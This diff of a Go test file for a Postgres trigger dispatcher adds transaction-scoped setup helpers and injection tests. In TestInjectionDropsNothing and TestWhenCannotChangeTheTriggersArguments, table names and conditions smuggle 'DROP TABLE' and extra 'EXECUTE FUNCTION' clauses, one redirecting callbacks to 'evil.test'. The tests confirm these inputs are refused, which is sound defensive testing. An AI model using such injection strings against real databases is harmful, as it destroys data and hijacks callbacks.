@@ -15,6 +15,7 @@ import (
 	"github.com/pgdispatch/pgdispatch/executors"
 	"github.com/pgdispatch/pgdispatch/executors/httpcallback"
 	"github.com/pgdispatch/pgdispatch/internal/testkit/pgtest"
+	"github.com/pgdispatch/pgdispatch/internal/testkit/timing"
 	"github.com/pgdispatch/pgdispatch/internal/testkit/workertest"
 	"github.com/pgdispatch/pgdispatch/triggers"
 )
@@ -65,6 +66,19 @@ func setup(t *testing.T, tableName string) *bundle {
 	b := &bundle{schema: schema, table: pgx.Identifier{schema, tableName}.Sanitize(), got: got, url: srv.URL}
 	b.exec(t, "CREATE TABLE "+b.table+" (id int PRIMARY KEY, status text NOT NULL, total numeric)")
 	return b
+}
+
+// sqlOnly is setup for tests that only run SQL: a transaction on a schema
+// of the test's own, rolled back when the test ends (pgtest.Tx), with the
+// application's table, quoted, in it. No worker runs and no receiver
+// listens: nothing commits.
+func sqlOnly(t *testing.T, tableName string) (tx pgx.Tx, schema, table string) {
+	t.Helper()
+	tx, schema = pgtest.Tx(t)
+	table = pgx.Identifier{schema, tableName}.Sanitize()
+	_, err := tx.Exec(context.Background(), "CREATE TABLE "+table+" (id int PRIMARY KEY, status text NOT NULL, total numeric)")
+	require.NoError(t, err)
+	return tx, schema, table
 }
 
 func (b *bundle) exec(t *testing.T, sql string, args ...any) {
@@ -189,20 +203,20 @@ func TestListAndRemove(t *testing.T) {
 // Other kinds find the envelope under "event", rabbitmq under "body".
 func TestEnvelopeField(t *testing.T) {
 	t.Parallel()
-	b := setup(t, "orders")
+	tx, schema, table := sqlOnly(t, "orders")
 	ctx := context.Background()
-	pool := pgtest.Pool(t)
 	for kind, field := range map[string]string{"rabbitmq": "body", "audit": "event"} {
-		_, _, err := triggers.Add(ctx, pool, b.schema, triggers.Spec{
-			Table: b.table, Kind: kind, Queue: "elsewhere", Payload: json.RawMessage(`{"exchange": "x"}`),
+		_, _, err := triggers.Add(ctx, tx, schema, triggers.Spec{
+			Table: table, Kind: kind, Queue: "elsewhere", Payload: json.RawMessage(`{"exchange": "x"}`),
 		})
 		require.NoError(t, err)
 		var op string
-		b.exec(t, "INSERT INTO "+b.table+" VALUES ($1, 'new', 1)", len(field))
-		require.NoError(t, pool.QueryRow(ctx, "SELECT payload->$1->>'op' FROM "+pgx.Identifier{b.schema, "jobs"}.Sanitize()+
+		_, err = tx.Exec(ctx, "INSERT INTO "+table+" VALUES ($1, 'new', 1)", len(field))
+		require.NoError(t, err)
+		require.NoError(t, tx.QueryRow(ctx, "SELECT payload->$1->>'op' FROM "+pgx.Identifier{schema, "jobs"}.Sanitize()+
 			" WHERE kind = $2", field, kind).Scan(&op), kind)
 		require.Equal(t, "INSERT", op, kind)
-		require.NoError(t, triggers.Remove(ctx, pool, b.schema, "orders_"+kind, 0))
+		require.NoError(t, triggers.Remove(ctx, tx, schema, "orders_"+kind, 0))
 	}
 }
 
@@ -220,11 +234,15 @@ func TestAddFailsFastOnLockedTable(t *testing.T) {
 	_, err = holder.Exec(ctx, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
 	require.NoError(t, err)
 
+	// Add's pool waits on a lock until its context ends: a lock timeout is
+	// Add's own.
+	addCtx, cancelAdd := context.WithTimeout(ctx, 30*time.Second)
+	defer cancelAdd()
 	started := time.Now()
-	_, _, err = triggers.Add(ctx, pool, b.schema, triggers.Spec{Table: b.table, Kind: httpcallback.Kind, LockWait: 300 * time.Millisecond})
+	_, _, err = triggers.Add(addCtx, pgtest.LockWaitingPool(t), b.schema, triggers.Spec{Table: b.table, Kind: httpcallback.Kind, LockWait: 300 * time.Millisecond})
 	require.ErrorIs(t, err, triggers.ErrLocked)
 	require.Contains(t, err.Error(), "nothing was changed")
-	require.Less(t, time.Since(started), 5*time.Second)
+	timing.Below(t, "the failed add", time.Since(started), 5*time.Second)
 
 	writeCtx, cancel := context.WithTimeout(ctx, 5*time.Second)
 	defer cancel()
@@ -251,31 +269,31 @@ func TestOddTableName(t *testing.T) {
 // leaves no trigger behind.
 func TestInjectionDropsNothing(t *testing.T) {
 	t.Parallel()
-	b := setup(t, "orders")
+	tx, schema, table := sqlOnly(t, "orders")
 	ctx := context.Background()
-	pool := pgtest.Pool(t)
-	victim := pgx.Identifier{b.schema, "victim"}.Sanitize()
-	b.exec(t, "CREATE TABLE "+victim+" (id int)")
+	victim := pgx.Identifier{schema, "victim"}.Sanitize()
+	_, err := tx.Exec(ctx, "CREATE TABLE "+victim+" (id int)")
+	require.NoError(t, err)
 
 	for _, s := range []triggers.Spec{
-		{Table: b.table + "; DROP TABLE " + victim + "; --"},
-		{Table: b.table + " EXECUTE FUNCTION pg_catalog.now(); DROP TABLE " + victim},
+		{Table: table + "; DROP TABLE " + victim + "; --"},
+		{Table: table + " EXECUTE FUNCTION pg_catalog.now(); DROP TABLE " + victim},
 		{Table: "(SELECT 1); DROP TABLE " + victim},
-		{Table: b.table, When: "true); DROP TABLE " + victim + "; --"},
-		{Table: b.table, When: "true) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger() --"},
-		{Table: b.table, When: "true) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger() /*"},
-		{Table: b.table, When: "NEW.id > 0) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger("},
+		{Table: table, When: "true); DROP TABLE " + victim + "; --"},
+		{Table: table, When: "true) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger() --"},
+		{Table: table, When: "true) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger() /*"},
+		{Table: table, When: "NEW.id > 0) EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger("},
 	} {
 		s.Kind = httpcallback.Kind
-		_, _, err := triggers.Add(ctx, pool, b.schema, s)
+		_, _, err := triggers.Add(ctx, tx, schema, s)
 		require.Error(t, err, "%+v", s)
 		t.Logf("refused: %v", err)
 	}
 	var exists bool
-	require.NoError(t, pool.QueryRow(ctx, "SELECT to_regclass($1) IS NOT NULL", victim).Scan(&exists))
+	require.NoError(t, tx.QueryRow(ctx, "SELECT to_regclass($1) IS NOT NULL", victim).Scan(&exists))
 	require.True(t, exists, "the victim table is still there")
 	var triggersLeft int
-	require.NoError(t, pool.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal", b.table).Scan(&triggersLeft))
+	require.NoError(t, tx.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal", table).Scan(&triggersLeft))
 	require.Zero(t, triggersLeft)
 }
 
@@ -286,48 +304,52 @@ func TestInjectionDropsNothing(t *testing.T) {
 // neither trigger nor record behind.
 func TestWhenCannotChangeTheTriggersArguments(t *testing.T) {
 	t.Parallel()
-	b := setup(t, "orders")
+	tx, schema, table := sqlOnly(t, "orders")
 	ctx := context.Background()
-	pool := pgtest.Pool(t)
-	fn := pgx.Identifier{b.schema, "dispatch_event"}.Sanitize()
+	const url = "http://receiver.test"
+	fn := pgx.Identifier{schema, "dispatch_event"}.Sanitize()
 
 	specs := map[string]triggers.Spec{
 		"url": {
 			When:    `true) EXECUTE FUNCTION ` + fn + `('http_callback', 'default', '{"url": "http://evil.test/"}', $q$`,
-			Payload: json.RawMessage(`{"url": "` + b.url + `/good", "note": "$q$) --"}`),
+			Payload: json.RawMessage(`{"url": "` + url + `/good", "note": "$q$) --"}`),
 		},
 		"queue and kind": {
 			When:    `true) EXECUTE FUNCTION ` + fn + `('noop', 'elsewhere', '{}', $q$`,
-			Payload: json.RawMessage(`{"url": "` + b.url + `/good", "note": "$q$) --"}`),
+			Payload: json.RawMessage(`{"url": "` + url + `/good", "note": "$q$) --"}`),
 		},
 		"when": { // the arguments as recorded, the condition not
 			When: `NEW.status = 'paid') EXECUTE FUNCTION ` + fn + `('http_callback', 'default', ` +
-				`'{"url": "` + b.url + `/good"}') $q$`,
-			Payload: json.RawMessage(`{"url": "` + b.url + `/good"}`),
+				`'{"url": "` + url + `/good"}') $q$`,
+			Payload: json.RawMessage(`{"url": "` + url + `/good"}`),
 		},
 	}
 	for name, s := range specs {
-		s.Table, s.Kind, s.Name = b.table, httpcallback.Kind, "hijack"
-		_, _, err := triggers.Add(ctx, pool, b.schema, s)
+		s.Table, s.Kind, s.Name = table, httpcallback.Kind, "hijack"
+		_, _, err := triggers.Add(ctx, tx, schema, s)
 		require.Error(t, err, name)
 		t.Logf("%s: refused: %v", name, err)
-		list, err := triggers.List(ctx, pool, b.schema)
+		list, err := triggers.List(ctx, tx, schema)
 		require.NoError(t, err)
 		require.Empty(t, list, name)
 	}
 	var left int
-	require.NoError(t, pool.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal",
-		b.table).Scan(&left))
+	require.NoError(t, tx.QueryRow(ctx, "SELECT count(*) FROM pg_trigger WHERE tgrelid = $1::regclass AND NOT tgisinternal",
+		table).Scan(&left))
 	require.Zero(t, left)
-	b.exec(t, "INSERT INTO "+b.table+" VALUES (1, 'new', 10)")
-	require.Zero(t, b.jobCount(t), "no trigger made a job")
+	_, err := tx.Exec(ctx, "INSERT INTO "+table+" VALUES (1, 'new', 10)")
+	require.NoError(t, err)
+	var jobs int
+	require.NoError(t, tx.QueryRow(ctx, "SELECT count(*) FROM "+pgx.Identifier{schema, "jobs"}.Sanitize()).Scan(&jobs))
+	require.Zero(t, jobs, "no trigger made a job")
 
 	// The SQL function alone, as psql users call it, still lets it through
 	// (migration 004): List says the trigger is not the one recorded.
 	s := specs["url"]
-	b.exec(t, "SELECT "+pgx.Identifier{b.schema, "add_trigger"}.Sanitize()+"($1, ARRAY['insert'], 'http_callback', $2, 'default', $3, 'hijack')",
-		b.table, string(s.Payload), s.When)
-	list, err := triggers.List(ctx, pool, b.schema)
+	_, err = tx.Exec(ctx, "SELECT "+pgx.Identifier{schema, "add_trigger"}.Sanitize()+"($1, ARRAY['insert'], 'http_callback', $2, 'default', $3, 'hijack')",
+		table, string(s.Payload), s.When)
+	require.NoError(t, err)
+	list, err := triggers.List(ctx, tx, schema)
 	require.NoError(t, err)
 	require.Len(t, list, 1)
 	require.True(t, list[0].Present)
